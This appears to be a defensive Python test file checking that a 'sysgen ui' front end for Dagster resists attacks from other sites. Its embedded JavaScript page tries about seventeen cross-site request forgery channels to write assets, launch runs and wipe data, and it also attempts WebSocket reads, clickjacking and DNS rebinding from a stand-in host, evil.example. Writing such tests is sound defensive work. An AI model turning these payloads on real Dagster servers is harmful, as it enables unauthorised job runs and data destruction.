"""Pages of other sites in the browser of whoever runs the UI: what they get done.

The same page is opened against Dagster's webserver as it is, which shows that what it tries does
something, and against the one of `sysgen ui`.
"""

import json
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

import pytest

from sysgen_dagster_tests.commands.browser import needs_chromium, opened_chromium
from sysgen_dagster_tests.commands.webservers import Deployment, ask, free_port

pytestmark = [pytest.mark.slow, needs_chromium]

# Each way writes the asset of its own name, so that what was written tells which ways got through.
WRITES = """
const write = name => `mutation{reportRunlessAssetEvents(eventParams:{eventType:
  ASSET_MATERIALIZATION,assetKey:{path:["${name}"]}}){__typename}}`;
const asked = query => `${UI}/graphql?query=${encodeURIComponent(query)}`;
const body = name => JSON.stringify({query: write(name)});
const post = (name, headers, more) =>
  fetch(`${UI}/graphql`, {method: 'POST', mode: 'no-cors', body: body(name), headers, ...more});
const image = url => new Promise(done => {
  const image = new Image(); image.onload = image.onerror = done; image.src = url;
});
const form = (name, action, enctype, field) => new Promise(done => {
  document.body.insertAdjacentHTML('beforeend', `<iframe name="${name}"></iframe>`);
  const form = document.createElement('form');
  Object.assign(form, {method: 'POST', action, enctype, target: name});
  if (field) form.append(Object.assign(document.createElement('input'), field));
  document.body.append(form);
  document.querySelector(`[name=${name}]`).onload = done;
  form.submit();
  setTimeout(done, 3000);
});
const tried = {
  by_image: n => image(asked(write(n))),
  by_fetch_get: n => fetch(asked(write(n)), {mode: 'no-cors'}),
  by_fetch_cors: n => fetch(asked(write(n))),
  by_json_in_text_plain: n => post(n, {'Content-Type': 'text/plain; application/json'}),
  by_text_plain_query: n => fetch(asked(write(n)), {method: 'POST', mode: 'no-cors', body: 'x'}),
  by_no_content: n => fetch(asked(write(n)), {method: 'POST', mode: 'no-cors'}),
  by_beacon: async n => navigator.sendBeacon(asked(write(n)), 'x'),
  by_form: n => form(n, asked(write(n)), 'application/x-www-form-urlencoded'),
  by_form_text: n => form(n, asked(write(n)), 'text/plain', {name: body(n), value: ''}),
  by_script: n => new Promise(done => document.body.append(Object.assign(
    document.createElement('script'), {src: asked(write(n)), onload: done, onerror: done}))),
  by_frame: n => new Promise(done => document.body.append(Object.assign(
    document.createElement('object'), {data: asked(write(n)), onload: done, onerror: done}))),
  by_stylesheet: n => new Promise(done => document.body.append(Object.assign(
    document.createElement('link'),
    {rel: 'stylesheet', href: asked(write(n)), onload: done, onerror: done}))),
  by_redirect: n => image(`/to?${asked(write(n))}`),
  by_video: n => new Promise(done => document.body.append(Object.assign(
    document.createElement('video'), {src: asked(write(n)), onloadeddata: done, onerror: done}))),
  by_event_source: n => new Promise(done => {
    const events = new EventSource(asked(write(n)));
    events.onopen = events.onerror = () => { events.close(); done(); };
  }),
  by_report: n => fetch(`${UI}/report_asset_materialization/${n}`,
    {method: 'POST', mode: 'no-cors'}),
  by_json: n => post(n, {'Content-Type': 'application/json'}, {mode: 'cors'}),
};
"""
STARTS = """
const start = `mutation{launchRun(executionParams:{selector:{repositoryLocationName:"code.py",
  repositoryName:"__repository__",jobName:"__ASSET_JOB",assetSelection:[{path:["made"]}]},
  mode:"default",runConfigData:"{}"}){__typename}}`;
const wipe = `mutation{wipeAssets(assetPartitionRanges:[{assetKey:{path:["kept"]}}]){__typename}}`;
"""
READS = """
const read = {};
const listen = () => new Promise(done => {
  const socket = new WebSocket(UI.replace('http', 'ws') + '/graphql', 'graphql-ws');
  socket.onopen = () => socket.send(JSON.stringify({type: 'connection_init'}));
  socket.onmessage = message => { read.websocket = message.data; done(); };
  socket.onerror = socket.onclose = done;
});
const fetched = (name, url) =>
  fetch(url).then(answer => answer.text()).then(text => { read[name] = text; });
const seen = () => new Promise(done => {
  const image = new Image(); image.onerror = done;
  image.onload = () => { read.image = 'width ' + image.width; done(); };
  image.src = `${UI}/favicon.png`;
});
const framed = () => new Promise(done => {
  const frame = document.createElement('iframe');
  frame.name = 'clickjacked'; frame.src = UI; frame.onload = done;
  document.body.append(frame); setTimeout(done, 5000);
});
"""
TRIES = """
window.done = (async () => {
  for (const [name, way] of Object.entries(tried)) await way(name).catch(() => 0);
  await image(asked(start));
  await image(asked(wipe));
  await listen();
  await seen();
  await framed();
  await fetched('graphql', asked('{version}')).catch(() => 0);
  await fetched('server_info', `${UI}/server_info`).catch(() => 0);
  await fetched('page', UI).catch(() => 0);
  await new Promise(done => setTimeout(done, 1000));  // what nobody waits for: the beacon
  return read;
})();
"""
WAYS = [line.partition(":")[0].strip() for line in WRITES.splitlines() if line.startswith("  by_")]
ELSEWHERE = "evil.example"  # leads to this machine in the browser of this test
KEPT = """mutation{reportRunlessAssetEvents(eventParams:{eventType:
    ASSET_MATERIALIZATION,assetKey:{path:["kept"]}}){__typename}}"""


def page_against(ui: str) -> str:
    script = f"const UI = {json.dumps(ui)};{WRITES}{STARTS}{READS}{TRIES}"
    return f"<!doctype html><body><script>{script}</script></body>"


@pytest.fixture(scope="module")
def browser() -> Iterator[Any]:
    names = f"MAP {ELSEWHERE} 127.0.0.1, MAP rebound.example 127.0.0.1"
    # Newer Chromiums ask before a page of the internet calls this machine; other browsers do not.
    as_others = "--disable-features=LocalNetworkAccessChecks"
    with opened_chromium(f"--host-resolver-rules={names}", as_others) as browser:
        yield browser


@pytest.fixture(params=["guarded", "plain"], scope="module")
def ui(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Any]:
    """The deployment, the address of its webserver, and whether that is ours."""
    deployment = Deployment.of(tmp_path_factory.mktemp("ui"), [*WAYS, "made", "kept"])
    guarded = request.param == "guarded"
    with deployment.served(free_port(), guarded=guarded) as url:
        assert ask(url, KEPT)[0] == 200
        yield deployment, url, guarded


@pytest.fixture
def other_site(ui: Any) -> Iterator[int]:
    """The port of a server of this machine whose page attacks the UI."""
    _, url, _ = ui

    class Page(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            place, _, elsewhere = self.path.partition("?")
            if place == "/to":
                self.send_response(302)
                self.send_header("Location", elsewhere)
                self.send_header("Content-Length", "0")
                return self.end_headers()
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.end_headers()
            self.wfile.write(page_against(url).encode())
            return None

        def log_message(self, *_: Any) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Page)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield server.server_port
    server.shutdown()
    server.server_close()


@pytest.mark.parametrize("name", ["127.0.0.1", ELSEWHERE])
def test_a_page_of_another_site_writes_starts_wipes_and_reads_nothing(
    ui: Any, other_site: int, browser: Any, name: str
) -> None:
    deployment, url, guarded = ui
    with browser.new_context() as context:
        page = context.new_page()
        page.goto(f"http://{name}:{other_site}/")
        read = page.evaluate("window.done")
        [shown] = [each.url for each in page.frames if each.name == "clickjacked"]
    if guarded:
        assert (deployment.written(), deployment.runs(), read) == ({"kept"}, 0, {})
        assert shown.startswith("chrome-error:")
    else:
        got_through = deployment.written()
        # What Dagster by itself keeps out: what a browser asks about first (CORS), and a frame,
        # which is shown a page for people.
        assert set(WAYS) - got_through == {"by_json", "by_frame"}
        assert "kept" not in got_through
        assert deployment.runs() > 0
        assert read.keys() == {"websocket", "image"}
        assert shown.startswith(url)


def test_a_site_whose_name_leads_to_this_machine_is_of_no_origin_with_the_ui(
    ui: Any, browser: Any
) -> None:
    deployment, url, guarded = ui
    rebound = url.replace("127.0.0.1", "rebound.example")
    before = deployment.written()
    with browser.new_context() as context:
        page = context.new_page()
        # The page came from the site's own server, before its name led here.
        html = {"body": page_against(rebound), "content_type": "text/html"}
        page.route(f"{rebound}/trap", lambda route: route.fulfill(**html))
        page.goto(f"{rebound}/trap")
        read = page.evaluate("window.done")
    if guarded:
        assert deployment.written() == before
        # They are of one origin, so its page can read that it is refused.
        assert read.keys() == {"graphql", "server_info", "page"}
        assert all(text.startswith("Refused: this is no UI of") for text in read.values())
    else:
        assert deployment.written() >= {"by_json"}
        assert "dagster_webserver_version" in read["server_info"]


def test_a_link_on_another_site_opens_the_ui(ui: Any, other_site: int, browser: Any) -> None:
    _, url, _ = ui
    with browser.new_context() as context:
        page = context.new_page()
        page.route(
            "**/links",
            lambda route: route.fulfill(
                body=f'<a href="{url}/assets/made">the run</a>', content_type="text/html"
            ),
        )
        page.goto(f"http://{ELSEWHERE}:{other_site}/links")
        page.get_by_text("the run").click()
        page.get_by_text("made").first.wait_for()
        assert page.url.startswith(f"{url}/assets/made")
